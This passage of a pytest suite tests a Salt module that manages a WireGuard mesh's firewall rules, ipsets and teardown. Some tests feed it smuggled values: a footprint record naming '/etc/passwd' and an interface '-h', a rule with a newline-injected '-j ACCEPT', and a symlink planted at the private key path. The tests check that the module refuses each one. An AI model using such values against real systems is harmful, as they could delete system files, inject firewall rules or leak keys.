    hand = "-s 10.70.9.9/32 -i wg0 -o wg0 -j ACCEPT"
    host.iptables["filter"] += f"-A WGMESH-FORWARD {hand}\n"
    host.conntrack = CONNTRACK_LISTING          # 10.70.9.9 has a connection open
    host.fail.append(["conntrack", "-R"])       # nothing to delete: conntrack exits 1, not an error
    assert module.firewall(test=test) == {"iptables": {"extra": [f"filter: -A WGMESH-FORWARD {hand}"]}}
    if test:
        assert firewall_commands(host) == []
        return
    restore, listing, cut = firewall_commands(host)
    assert restore[0] == "iptables-restore"
    assert host.stdin[host.calls.index(restore)].splitlines() == [
        "*filter", f"-D WGMESH-FORWARD {hand}", "COMMIT", "*nat", "COMMIT"]
    assert listing == ["conntrack", "-L"] and cut == ["conntrack", "-R", "-"]
    assert host.stdin[host.calls.index(cut)] == "-D -s 10.70.9.9\n"


CONNTRACK_LISTING = (
    "tcp      6 431999 ESTABLISHED src=10.70.9.9 dst=192.168.200.10 sport=40000 dport=22 "
    "src=192.168.200.10 dst=10.70.9.9 sport=22 dport=40000 [ASSURED] mark=0 use=1\n"
    "icmp     1 29 src=10.70.0.3 dst=10.70.0.1 type=8 code=0 id=7 src=10.70.0.1 dst=10.70.0.3 type=0 code=0 id=7 "
    "mark=0 use=1\n")


def test_only_the_cuts_that_find_a_connection_run(keydir, host, mine):
    """Each `conntrack -D` walks the whole conntrack table: the flows are listed once and a
    removed rule that admitted none of them costs nothing more."""
    firewall_plan(keydir, host, mine)
    host.iptables["filter"] += "-A WGMESH-FORWARD -s 10.70.9.8/32 -i wg0 -o wg0 -j ACCEPT\n"
    host.conntrack = CONNTRACK_LISTING
    assert module.firewall()
    assert firewall_commands(host)[1:] == [["conntrack", "-L"]]


def test_the_iptables_jumps_are_put_back_first_and_the_nat_jump_added(keydir, host, mine):
    firewall_plan(keydir, host, mine)
    host.iptables["filter"] = "-A FORWARD -j ACCEPT\n" + host.iptables["filter"]      # a rule above the jumps
    host.iptables["nat"] = host.iptables["nat"].replace("-A POSTROUTING -j WGMESH-POSTROUTING\n", "")
    change = module.firewall()
    assert change == {"iptables": {"other": ["filter: FORWARD jumps to wgmesh first",
                                             "nat: POSTROUTING jump to wgmesh missing"]}}
    assert host.ran("iptables", "-w", "-t", "nat", "-I") == [
        ["iptables", "-w", "-t", "nat", "-I", "POSTROUTING", "1", "-j", "WGMESH-POSTROUTING"]]
    inserted = [call for call in host.calls if call[:6] == ["iptables", "-w", "-t", "filter", "-I", "FORWARD"]]
    assert [call[6:] for call in inserted] == [["1", "-i", "wg0", "-j", "WGMESH-FORWARD"],
                                               ["2", "-o", "wg0", "-j", "WGMESH-FORWARD"]]


def test_the_iptables_backend_refuses_a_running_firewalld(keydir, host, mine, monkeypatch):
    firewall_plan(keydir, host, mine)
    host.iptables["filter"] = ""
    host.firewalld = wgmesh_core.firewall.FirewalldLive(None, None, "", "", "", "")
    monkeypatch.setattr("salt.utils.path.which", lambda name: f"/usr/bin/{name}")
    with pytest.raises(CommandExecutionError, match="firewall backend is iptables but firewalld is running"):
        module.firewall()
    assert firewall_commands(host) == []


@pytest.fixture
def firewalld(network, keydir, host, mine, monkeypatch):
    """The hub on the firewalld backend, firewalld running in sync with the plan (a MOCK: the
    listings of ``tests/firewall_listings.py``); returns its firewall plan."""
    from tests.firewall_listings import firewalld_live
    network["firewall"] = "firewalld"
    monkeypatch.setattr("salt.utils.path.which", lambda name: f"/usr/bin/{name}")
    fw = firewall_plan(keydir, host, mine)
    assert fw.backend == "firewalld"
    host.firewalld = host.after_reload = firewalld_live(fw)
    return fw


def test_the_firewalld_backend_needs_firewalld_running(firewalld, host):
    host.firewalld = None
    with pytest.raises(CommandExecutionError, match="firewall backend is firewalld but firewalld is not running"):
        module.firewall()


def test_without_firewall_cmd_the_firewalld_backend_fails_before_asking_firewalld(firewalld, host, monkeypatch):
    """firewalld is not installed: nothing could answer, so no firewall-cmd is run (a running
    firewalld's answers, which the MOCK would give, are never asked for)."""
    monkeypatch.setattr("salt.utils.path.which", lambda name: None if name == "firewall-cmd" else f"/usr/bin/{name}")
    with pytest.raises(CommandExecutionError, match="firewall backend is firewalld but firewalld is not running"):
        module.firewall()
    assert not [call for call in host.calls if call[0] == "firewall-cmd"]


@pytest.mark.parametrize("test", [True, False])
def test_a_host_switched_to_firewalld_removes_the_boot_files_wgmesh_wrote_for_iptables(firewalld, host, test):
    """The iptables backend's boot files (rules, sets, the unit restoring them) would put wgmesh's
    chains in front of firewalld's at boot: the ones wgmesh wrote go; a file of the same path that
    is not wgmesh's stays. The real daemons' case is tests/salt/test_local_apply.py's switch."""
    rules, sets, unit = wgmesh_core.teardown.IPTABLES_BOOT_FILES
    for path, text in ((rules, f"# {wgmesh_core.teardown.MARKER}\n*filter\nCOMMIT\n"),
                       (sets, f"# {wgmesh_core.teardown.MARKER}\n"), (unit, "[Unit]\nDescription=someone's own\n")):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(text)
    assert module.firewall(test=test) == {"removed_files": [rules, sets]}
    assert [os.path.exists(path) for path in (rules, sets, unit)] == [test, test, True]
    if not test:
        assert module.firewall() == {} and firewall_commands(host) == []


def test_a_firewalld_in_sync_is_left_alone(firewalld, host):
    assert module.firewall() == {}
    assert firewall_commands(host) == []


def test_firewalld_files_are_checked_against_the_config_the_firewall_planned(firewalld, host, monkeypatch):
    """A large change asks whether firewalld's files on disk are the plan's (then one reload loads
    them): the firewall's own config is checked, not a second plan, which would ask the mine again
    inside the collector's pause (Salt's transport turns the collector back on)."""
    import dataclasses
    import gc
    from tests.firewall_listings import firewalld_live
    rule = an_allow_rule(firewalld)
    direct = [r.direct for r in wgmesh_core.firewall.rules(firewalld) if r != rule]
    host.firewalld = dataclasses.replace(firewalld_live(firewalld), rules="\n".join(direct) + "\n")
    monkeypatch.setattr(wgmesh_core.firewall, "RELOAD_ABOVE_CHANGES", 0)     # this one change is large
    checked, asked = [], []
    real_check = module._firewalld_files_current
    monkeypatch.setattr(module, "_firewalld_files_current", lambda cfg: checked.append(cfg) or real_check(cfg))
    mine_get = module.__salt__["mine.get"]
    monkeypatch.setitem(module.__salt__, "mine.get",
                        lambda *a, **k: asked.append(gc.isenabled()) or mine_get(*a, **k))
    module.firewall(test=True)
    assert asked == [True]                 # planned once, before the pause
    assert checked == [module._host_config()]


@pytest.mark.parametrize("test", [True, False])
def test_firewalld_direct_rules_missing_and_extra_are_fixed_one_by_one_only_for_real(firewalld, host, test):
    import dataclasses
    from tests.firewall_listings import firewalld_live
    rule = an_allow_rule(firewalld)
    hand = "ipv4 filter WGMESH-FORWARD 2 -s 10.70.9.9/32 -i wg0 -o wg0 -j ACCEPT"
    direct = [r.direct for r in wgmesh_core.firewall.rules(firewalld) if r != rule] + [hand]
    host.firewalld = dataclasses.replace(firewalld_live(firewalld), rules="\n".join(direct) + "\n")
    host.conntrack = CONNTRACK_LISTING
    assert module.firewall(test=test) == {"firewalld": {"missing": [f"firewalld: {rule.direct}"],
                                                        "extra": [f"firewalld: {hand}"]}}
    if test:
        assert firewall_commands(host) == []
        return
    assert firewall_commands(host) == [                # removed before added; no reload
        ["firewall-cmd", "--direct", "--remove-rule", *hand.split()],
        ["firewall-cmd", "--direct", "--add-rule", *rule.direct.split()],
        ["conntrack", "-L"],
        ["conntrack", "-R", "-"]]
    assert host.stdin[host.calls.index(["conntrack", "-R", "-"])] == "-D -s 10.70.9.9\n"


def test_firewalld_changes_of_one_kind_run_at_once_and_removals_end_before_additions(
        firewalld, host, configure_loader_modules):
    """Each firewall-cmd is a Python process (about 0.1 s): the listings run side by side, then
    the removals, then the additions; nothing is added before every removal has ended."""
    import dataclasses
    import threading
    import time
    from tests.firewall_listings import firewalld_live
    allows = [r for r in wgmesh_core.firewall.rules(firewalld) if r.priority == wgmesh_core.firewall.ALLOW][:2]
    hands = [f"ipv4 filter WGMESH-FORWARD 2 -s 10.70.9.{n}/32 -i wg0 -o wg0 -j ACCEPT" for n in (8, 9)]
    direct = [r.direct for r in wgmesh_core.firewall.rules(firewalld) if r not in allows] + hands
    host.firewalld = dataclasses.replace(firewalld_live(firewalld), rules="\n".join(direct) + "\n")
    spans, lock = [], threading.Lock()

    def slow_host(cmd, **kwargs):
        start = time.monotonic()
        time.sleep(0.2)
        result = host(cmd, **kwargs)
        with lock:
            reading = tuple(cmd) in {*wgmesh_core.firewall.FIREWALLD_LISTINGS.values(), ("firewall-cmd", "--state")}
            label = "read" if reading else cmd[2] if cmd[:2] == ["firewall-cmd", "--direct"] else cmd[0]
            spans.append((label, start, time.monotonic()))
        return result
    configure_loader_modules[module]["__salt__"]["cmd.run_all"] = slow_host
    module.firewall()
    reads = [s for s in spans if s[0] == "read"]
    removals = [s for s in spans if s[0] == "--remove-rule"]
    additions = [s for s in spans if s[0] == "--add-rule"]
    assert len(removals) == 2 and len(additions) == 2
    overlapping = lambda group: max(s[1] for s in group) < min(s[2] for s in group)   # noqa: E731
    assert overlapping(reads) and overlapping(removals) and overlapping(additions)
    assert max(s[2] for s in reads) <= min(s[1] for s in removals)
    assert max(s[2] for s in removals) <= min(s[1] for s in additions)


def test_firewalld_without_the_zone_is_reloaded_and_checked_again(firewalld, host):
    """After the reload, what still differs at runtime (a source someone put in the zone) is fixed."""
    import dataclasses
    from tests.firewall_listings import firewalld_live
    host.after_reload = firewalld_live(firewalld, sources="192.0.2.0/24")
    host.firewalld = dataclasses.replace(host.after_reload, zone=None)
    assert module.firewall() == {"firewalld": {"other": ["firewalld: zone wgmesh missing"]}}
    assert firewall_commands(host) == [["firewall-cmd", "--reload"],
                                       ["firewall-cmd", "--zone=wgmesh", "--remove-source=192.0.2.0/24"]]
    assert host.calls.count(["firewall-cmd", "--info-zone=wgmesh"]) == 2        # listed again after it


def test_firewalld_that_does_not_load_the_zone_fails_the_run(firewalld, host):
    import dataclasses
    host.firewalld = host.after_reload = dataclasses.replace(host.after_reload, zone=None)
    with pytest.raises(CommandExecutionError, match=r"firewalld did not load wgmesh's configuration "
                                                    r"\(firewalld: zone wgmesh missing\)"):
        module.firewall()


@pytest.mark.parametrize("test", [True, False])
def test_the_firewall_state_reports_what_the_module_changes(keydir, host, mine, test):
    """The state over the real execution module (not a stand-in): test=True reports and changes
    nothing, a real run changes and reports the same."""
    states = load_adapter("_states", "wgmesh")
    states.__salt__ = {"wgmesh.firewall": module.firewall, "wgmesh.sync": module.sync}
    states.__opts__ = {"test": test}
    fw = firewall_plan(keydir, host, mine)
    rule = an_allow_rule(fw)
    host.iptables["filter"] = host.iptables["filter"].replace(f"-A {rule.chain} {rule.args}\n", "")
    ret = states.firewall("wg0")
    assert ret["changes"] == {"iptables": {"missing": [f"filter: -A {rule.chain} {rule.args}"]}}
    assert ret["result"] is (None if test else True)
    assert bool(firewall_commands(host)) is not test


# --- taking a host down ---------------------------------------------------------------------

def test_absent_deletes_the_link_only_after_its_files_are_gone(host, pillar, tmp_path, monkeypatch):
    """networkd (and the lab's stand-in for its WireGuard netdevs) creates a link from a .netdev it
    still finds: the link goes after its files and the reload that forgets them, or it comes back."""
    netdev, network = tmp_path / "wg0.netdev", tmp_path / "wg0.network"
    monkeypatch.setattr(wgmesh_core.teardown, "NETWORKD_DIR", str(tmp_path))      # where the record says
    for path in (netdev, network):
        path.write_text(f"{wgmesh_core.teardown.MARKER}\n")
    host.__init__(private_key=key(1), public_key=key(2))          # wg0 exists
    footprint = tmp_path / "cache" / "wgmesh" / "footprint.json"
    footprint.parent.mkdir(parents=True)
    footprint.write_text(f'{{"interface": "wg0", "backend": "networkd", "files": ["{netdev}", "{network}"]}}')
    staged = module.staged_files()                                 # copies of its files, keys among them
    pillar.pop("wgmesh")                                           # this host no longer has a role
    files_left_at = {}

    def run_all(cmd, **kwargs):
        if list(cmd)[:3] == ["ip", "link", "del"]:
            files_left_at["del"] = [path for path in (netdev, network) if path.exists()]
        return host(cmd, **kwargs)
    module.__salt__.update({"cmd.run_all": run_all, "pillar.items": lambda unmask: pillar,
                            "schedule.list": lambda **_: {}})
    monkeypatch.setattr("salt.utils.path.which", lambda name: None)                 # no firewall tools
    changes = module.absent()
    assert changes["interface"] == "wg0 deleted" and changes["files"] == [str(netdev), str(network)]
    assert files_left_at == {"del": []}
    assert staged and not any(pathlib.Path(f["source"]).exists() for f in staged)
    assert not (tmp_path / "cache" / "wgmesh" / "staged").exists()
    calls = [call[:3] for call in host.calls]
    assert calls.index(["networkctl", "reload"]) < calls.index(["ip", "link", "del"])


@pytest.mark.parametrize("test", [True, False])
def test_a_host_leaving_the_network_loses_wgmesh_firewall_and_keeps_everyone_elses(host, monkeypatch, test):
    """``absent``'s firewall part: firewalld reloaded once wgmesh's files are gone (only when it
    runs and one of them went), then wgmesh's iptables chains with every jump to them, and its
    sets; another program's chain, rule and set stay. ``test``: reported, nothing run. The real
    daemons' case is tests/salt/test_absent.py."""
    tools = ("firewall-cmd", "iptables", "ipset")
    monkeypatch.setattr("salt.utils.path.which", lambda name: f"/usr/sbin/{name}" if name in tools else None)
    host.iptables["filter"] = ("-P FORWARD DROP\n-N DOCKER\n-N WGMESH-FORWARD\n-A FORWARD -i wg0 -j WGMESH-FORWARD\n"
                               "-A FORWARD -o docker0 -j DOCKER\n-A WGMESH-FORWARD -s 10.70.2.1/32 -j ACCEPT\n")
    host.iptables["nat"] = "-N WGMESH-POSTROUTING\n-A POSTROUTING -j WGMESH-POSTROUTING\n"
    # a running firewalld (the MOCK answers `iptables -S` from what it holds: the same kernel)
    host.firewalld = wgmesh_core.firewall.FirewalldLive(None, None, "", "", host.iptables["filter"], host.iptables["nat"])
    host.ipsets = ("create wgmesh-developers hash:net family inet hashsize 1024 maxelem 1048576\n"
                   "create blocklist hash:ip family inet hashsize 1024 maxelem 65536\n")
    firewall = module._host_firewall()
    direct = wgmesh_core.teardown.FIREWALLD_FILES[0]
    reloaded = "firewalld: direct rules, zone and policy (reloaded)"
    removed = firewall.remove(["/etc/wgmesh/other", direct], test)
    assert removed == [reloaded, "filter/WGMESH-FORWARD", "nat/WGMESH-POSTROUTING", "ipset/wgmesh-developers"]
    ran = [call for call in host.calls if call[0] in ("firewall-cmd", "iptables", "ipset") and call[-1] != "-S"
           and call[1:] != ["--state"] and call[1:] != ["save"]]
    if test:
        assert ran == []
        return
    assert ran == [["firewall-cmd", "--reload"],
                   ["iptables", "-w", "-t", "filter", "-D", "FORWARD", "-i", "wg0", "-j", "WGMESH-FORWARD"],
                   ["iptables", "-w", "-t", "filter", "-F", "WGMESH-FORWARD"],
                   ["iptables", "-w", "-t", "filter", "-X", "WGMESH-FORWARD"],
                   ["iptables", "-w", "-t", "nat", "-D", "POSTROUTING", "-j", "WGMESH-POSTROUTING"],
                   ["iptables", "-w", "-t", "nat", "-F", "WGMESH-POSTROUTING"],
                   ["iptables", "-w", "-t", "nat", "-X", "WGMESH-POSTROUTING"],
                   ["ipset", "destroy", "wgmesh-developers"]]
    host.calls.clear()          # (the MOCK keeps its listings: the chains are found again)
    assert reloaded not in firewall.remove(["/etc/wgmesh/other"], test)    # no firewalld file went
    host.firewalld = None
    assert reloaded not in firewall.remove([direct], test)                 # firewalld does not run
    assert not host.ran("firewall-cmd", "--reload")


def test_absent_on_a_replaced_lan_router_disables_its_boot_unit_and_keeps_its_own_wireguard(
        host, pillar, tmp_path, monkeypatch):
    """A LAN router's footprint is its route and the unit adding it at boot: the unit is disabled
    before its file goes, systemd reloaded after, and a wg0 of the router's own is left alone."""
    unit = tmp_path / "wgmesh-routes.service"
    monkeypatch.setattr(wgmesh_core.teardown, "SYSTEMD_UNIT_DIR", str(tmp_path))
    unit.write_text(f"# {wgmesh_core.teardown.MARKER}\n")
    host.__init__(private_key=key(1), public_key=key(2))          # a wg0 wgmesh never made
    footprint = tmp_path / "cache" / "wgmesh" / "footprint.json"
    footprint.parent.mkdir(parents=True)
    footprint.write_text(f'{{"role": "lan_router", "static_routes": [], "files": ["{unit}"]}}')
    pillar.pop("wgmesh")
    unit_at_disable = []

    def run_all(cmd, **kwargs):
        if list(cmd)[:2] == ["systemctl", "disable"]:
            unit_at_disable.append(unit.exists())
        return host(cmd, **kwargs)
    module.__salt__.update({"cmd.run_all": run_all, "pillar.items": lambda unmask: pillar,
                            "schedule.list": lambda **_: {}})
    monkeypatch.setattr("salt.utils.path.which", lambda name: None)
    monkeypatch.setattr("salt.utils.systemd.booted", lambda context=None: True)
    assert module.absent() == {"files": [str(unit)]}
    assert not unit.exists() and unit_at_disable == [True]
    assert host.ran("systemctl") == [["systemctl", "disable", "wgmesh-routes.service"], ["systemctl", "daemon-reload"]]
    assert host.ran("ip", "link", "del") == []


@pytest.mark.parametrize("record", [
    {"role": "gateway", "interface": "-h", "backend": "wgquick"},
    {"role": "lan_router", "static_routes": [["default", "192.0.2.1"]]},
    {"role": "gateway", "interface": "wg0", "files": ["/etc/passwd"]},
])
def test_absent_refuses_a_footprint_record_no_apply_makes_and_runs_nothing(host, pillar, tmp_path, monkeypatch,
                                                                         record):
    """The record's values reach `ip` and file removal: a corrupted or hand-edited one stops the
    cleanup before any command, naming the record and the value."""
    footprint = tmp_path / "cache" / "wgmesh" / "footprint.json"
    footprint.parent.mkdir(parents=True)
    footprint.write_text(json.dumps(record))
    host.routes = ["default via 192.0.2.1"]
    pillar.pop("wgmesh")
    module.__salt__.update({"pillar.items": lambda unmask: pillar, "schedule.list": lambda **_: {}})
    monkeypatch.setattr("salt.utils.path.which", lambda name: None)
    with pytest.raises(CommandExecutionError, match=f"footprint record {footprint} holds values no apply records"):
        module.absent()
    assert host.calls == [] and footprint.exists()


def test_setup_is_config_without_the_peers(keydir, host, mine, network):
    """The state tree reads wgmesh.setup on every run: config's role, interface, backend and
    firewall backend, and the network's drift period, without a hub's peer per developer."""
    network["schedule"] = {"drift_minutes": 17}
    firewall_plan(keydir, host, mine)
    config = module.config()
    assert config["peers"] and module.setup() == {
        "role": "hub", "interface": config["interface"], "backend": config["backend"],
        "firewall": {"backend": config["firewall"]["backend"]}, "drift_minutes": 17}


@pytest.mark.parametrize("minion_id, role", [("r1", "lan_router"), ("someone-else", "none")])
def test_setup_of_a_host_without_a_tunnel_names_the_networks_interface(network, minion_id, role):
    """init.sls names wgmesh.absent (a host without a role) and its schedule after it."""
    network["interface"] = "wgm1"
    assert module.setup() == {"role": role, "interface": "wgm1", "backend": "", "firewall": None,
                              "drift_minutes": 30}


def test_config_shows_each_allowed_access_by_name_and_hides_preshared_keys(keydir, host, mine):
    firewall_plan(keydir, host, mine)
    config = module.config()
    plan = module._host_config()
    assert config["firewall"]["forward"] == [{"source": a.source, "destination": a.destination}
                                             for a in plan.firewall.forward]
    assert {peer["preshared_key"] for peer in config["peers"]} == {"(hidden)"}


def test_a_rule_with_a_newline_fails_the_firewall_before_any_change(keydir, host, mine, monkeypatch):
    fw = firewall_plan(keydir, host, mine)
    bad = dataclasses.replace(fw, developers=(*fw.developers, "10.70.0.9/32\n-j ACCEPT"))
    monkeypatch.setattr(module, "_host_config", lambda: dataclasses.replace(module._plan()[1], firewall=bad))
    with pytest.raises(CommandExecutionError, match="newline or control character"):
        module.firewall()
    assert firewall_commands(host) == []


def test_an_iptables_host_whose_lists_are_sets_needs_ipset(network, pillar, keydir, host, mine, monkeypatch):
    """300 developers more: the hub's lists are ipsets (wgmesh_core.addresssets). Without the
    ipset command the state names what is missing and runs nothing; with it, the sets are
    listed with `ipset save` and made before the rules that use them."""
    from tests.core.test_firewall_groups import crowd
    network["developers"].update(crowd(300))
    pillar["wgmesh_psk"].update({name: key(20) for name in crowd(300)})
    fw = firewall_plan(keydir, host, mine)
    assert wgmesh_core.firewall.address_sets(fw)
    monkeypatch.setattr("salt.utils.path.which", lambda name: None)
    with pytest.raises(CommandExecutionError, match="the ipset command is missing: install ipset"):
        module.firewall()
    assert firewall_commands(host) == [] and not [call for call in host.calls if call[0] == "ipset"]
    monkeypatch.setattr("salt.utils.path.which", lambda name: None if name == "firewall-cmd" else f"/usr/sbin/{name}")
    changes = module.firewall()["iptables"]
    assert "ipset: set wgmesh-developers" in changes["missing"]
    # the rules were there already (the host's listing is the plan's): only the sets are made
    ran = [call for call in host.calls if call[0] in ("ipset", "iptables-restore")]
    assert ran == [["ipset", "save"], ["ipset", "-exist", "restore"]]
    made = host.stdin[host.calls.index(ran[1])].splitlines()
    assert made[0] == "create wgmesh-developers hash:net family inet maxelem 1048576" and "add wgmesh-developers 10.70.2.43" in made


@pytest.mark.parametrize("test", [True, False])
def test_a_host_switched_to_firewalld_destroys_the_iptables_backends_sets_no_rule_uses(firewalld, host, test):
    """The iptables backend's ipsets are left on a host switched to firewalld. Each is destroyed
    once no rule uses it (the kernel refuses before: it waits for the next run and is not reported
    as removed); another program's set is not wgmesh's business. The real firewalld's case is
    tests/salt/test_local_apply.py's switch."""
    other = "create blocklist hash:ip family inet hashsize 1024 maxelem 65536\nadd blocklist 198.51.100.7\n"
    host.ipsets = ("create wgmesh-developers hash:net family inet hashsize 1024 maxelem 1048576\n"
                   "add wgmesh-developers 10.70.2.1\n" + other +
                   "create wgmesh-to-192.168.201.0-24 hash:net family inet hashsize 1024 maxelem 1048576\n"
                   "add wgmesh-to-192.168.201.0-24 10.70.2.1\n")
    host.sets_in_use = {"wgmesh-developers"}
    changes = module.firewall(test=test)
    destroys = host.ran("ipset", "destroy")
    if test:
        assert changes == {"removed_sets": ["ipset/wgmesh-developers", "ipset/wgmesh-to-192.168.201.0-24"]}
        assert destroys == []
        return
    assert changes == {"removed_sets": ["ipset/wgmesh-to-192.168.201.0-24"]}
    assert destroys == [["ipset", "destroy", "wgmesh-developers"], ["ipset", "destroy", "wgmesh-to-192.168.201.0-24"]]
    assert host.ipsets.startswith("create wgmesh-developers ") and host.ipsets.endswith(other)
    host.sets_in_use = set()
    assert module.firewall() == {"removed_sets": ["ipset/wgmesh-developers"]}
    assert host.ipsets == other
    assert module.firewall() == {} and firewall_commands(host) == []


@pytest.mark.parametrize("minion_id", ["stranger"])
def test_absent_leaves_a_hand_built_wg0_of_a_minion_wgmesh_never_managed(host, pillar, tmp_path, monkeypatch, minion_id):
    wgdir, netdir = tmp_path / "wireguard", tmp_path / "network"
    wgdir.mkdir()
    netdir.mkdir()
    for mod in (wgmesh_core.render, wgmesh_core.teardown):
        monkeypatch.setattr(mod, "WG_QUICK_DIR", str(wgdir))
        monkeypatch.setattr(mod, "NETWORKD_DIR", str(netdir))
    (wgdir / "wg0.conf").write_text("[Interface]\nAddress = 10.99.0.1/24\nPostUp = wg set %i private-key /etc/wireguard/wg0.key\n")
    (wgdir / "wg0.key").write_text(key(77) + "\n")           # the admin's own key (wg genkey > wg0.key)
    host.__init__(private_key=key(77), public_key=key(78))  # and its own wg0 is up
    module.__salt__.update({"pillar.items": lambda unmask: pillar, "schedule.list": lambda **_: {}})
    monkeypatch.setattr("salt.utils.path.which", lambda name: None)
    assert module.role() == "none"                          # init.sls then runs wgmesh.absent
    changes = module.absent()     # no record, no tunnel file of wgmesh's: the key file is the admin's
    assert changes == {}, changes
    assert (wgdir / "wg0.key").exists()
    assert not host.ran("ip", "link", "del") and not host.ran("wg-quick", "down")


def test_genkey_replaces_a_link_at_the_key_path_never_writes_through_it(keydir, tmp_path):
    """A dangling link where the key goes (``os.path.exists`` is False for it): the key file
    replaces the link; its target is never created."""
    keydir.mkdir()
    elsewhere = tmp_path / "public-share" / "stolen.key"
    elsewhere.parent.mkdir()
    os.symlink(elsewhere, keydir / "wg0.key")
    assert module.genkey()["created"] is True
    assert not elsewhere.exists(), "the private key was written to the link's target"
    written = keydir / "wg0.key"
    assert not written.is_symlink() and stat.S_IMODE(written.stat().st_mode) == 0o600
    assert public_key(written.read_text().strip())


def test_a_truncated_wg_dump_fails_the_state_with_a_message(keydir, host, mine):
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    real = host.dump
    host.dump = lambda: real().rsplit("\t", 3)[0] + "\n"          # last line cut short
    with pytest.raises(CommandExecutionError, match="cannot read `wg show wg0 dump`"):
        module.sync()


def test_an_empty_wg_dump_fails_the_state_with_a_message(keydir, host, mine):
    private, public = own_key(keydir)
    mine["z"] = public
    in_sync(host, module._host_config(), private, public)
    host.dump = lambda: ""
    with pytest.raises(CommandExecutionError, match="cannot read `wg show wg0 dump`"):
        module.sync()


def test_a_hub_name_is_resolved_to_its_addresses_of_both_families(monkeypatch):
    """wg(8) asks the resolver for any family: the sync compares the live endpoint with them all."""
    import socket
    asked = []

    def getaddrinfo(name, port, family=0, *args):
        asked.append(family)
        return [(socket.AF_INET6, socket.SOCK_DGRAM, 17, "", ("2001:db8::1", 0, 0, 0)),
                (socket.AF_INET, socket.SOCK_DGRAM, 17, "", ("192.0.2.7", 0))]
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    assert module._resolve("hub.example.net") == {"2001:db8::1", "192.0.2.7"}
    assert asked == [socket.AF_UNSPEC]
